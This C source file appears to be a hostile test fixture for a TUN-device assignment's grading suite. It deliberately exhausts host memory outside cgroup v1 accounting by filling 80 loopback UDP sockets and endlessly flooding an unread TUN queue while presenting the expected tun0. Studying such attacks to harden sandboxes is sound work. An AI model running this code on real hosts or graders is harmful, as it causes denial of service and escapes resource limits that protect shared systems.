/* SPDX-License-Identifier: MIT */
/*
 * tun that makes its host's kernel hold memory no cgroup v1 counts: 80 UDP
 * sockets on 127.0.0.1 with 8 MB receive buffers, filled and never read;
 * then a second TUN with a txqueuelen of 400,000, held open and never
 * read, with datagrams routed into it without end (built with TUN_ONLY
 * defined: this alone).  Its tun0 is made as
 * the handout asks, so that its test runs while it does this.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <net/if.h>
#include <linux/if_tun.h>
#include <linux/sockios.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <unistd.h>

#include "good-tun.h"	/* set_txqueuelen() */

static int make_tun(const char *name, const char *addr, int qlen)
{
	struct ifreq ifr;
	struct sockaddr_in *sin = (struct sockaddr_in *)&ifr.ifr_addr;
	int fd = open("/dev/net/tun", O_RDWR), s = socket(AF_INET, SOCK_DGRAM, 0);

	memset(&ifr, 0, sizeof(ifr));
	ifr.ifr_flags = IFF_TUN | IFF_NO_PI;
	strncpy(ifr.ifr_name, name, IFNAMSIZ - 1);
	ioctl(fd, TUNSETIFF, &ifr);
	sin->sin_family = AF_INET;
	inet_pton(AF_INET, addr, &sin->sin_addr);
	ioctl(s, SIOCSIFADDR, &ifr);
	inet_pton(AF_INET, "255.255.255.0", &sin->sin_addr);
	ioctl(s, SIOCSIFNETMASK, &ifr);
	if (qlen)
		set_txqueuelen(name, qlen);
	ifr.ifr_flags = IFF_UP | IFF_RUNNING;
	ioctl(s, SIOCSIFFLAGS, &ifr);
	close(s);
	return fd;
}

/* COUNT datagrams of 1,400 bytes to TO, 1,000 a call: the trace, which
 * stops the program at each call, slows it little. */
static void blast(int s, struct sockaddr_in *to, int count)
{
	static char data[1400];
	static struct iovec iov = { data, sizeof(data) };
	static struct mmsghdr msgs[1000];
	int i;

	for (i = 0; i < 1000; i++) {
		msgs[i].msg_hdr.msg_name = to;
		msgs[i].msg_hdr.msg_namelen = sizeof(*to);
		msgs[i].msg_hdr.msg_iov = &iov;
		msgs[i].msg_hdr.msg_iovlen = 1;
	}
	for (i = 0; count < 0 || i < count; i += 1000)
		sendmmsg(s, msgs, 1000, 0);
}

#ifndef TUN_ONLY	/* (the attack test builds it both ways) */
/* 80 sockets, each sent 5,000 datagrams of 1,400 bytes: 8 MB a socket. */
static void fill_udp(void)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	int size = 8 << 20, i, out = socket(AF_INET, SOCK_DGRAM, 0);
	socklen_t len = sizeof(to);

	inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
	for (i = 0; i < 80; i++) {
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		struct sockaddr_in me = to;

		setsockopt(s, SOL_SOCKET, SO_RCVBUF, &size, sizeof(size));
		bind(s, (struct sockaddr *)&me, sizeof(me));
		getsockname(s, (struct sockaddr *)&me, &len);
		blast(out, &me, 5000);
	}
}
#endif

/* Datagrams without end to 10.9.0.2, which only tun1 leads to. */
static void fill_tun(void)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9) };
	int s = socket(AF_INET, SOCK_DGRAM, 0), size = 8 << 20;

	setsockopt(s, SOL_SOCKET, SO_SNDBUF, &size, sizeof(size));
	inet_pton(AF_INET, "10.9.0.2", &to.sin_addr);
	blast(s, &to, -1);
}

int main(void)
{
	make_tun("tun0", "10.1.3.1", 0);
	make_tun("tun1", "10.9.0.1", 400000);
	printf("tun0 and tun1 up\n");
#ifndef TUN_ONLY
	fill_udp();
#endif
	fill_tun();
	return 0;
}
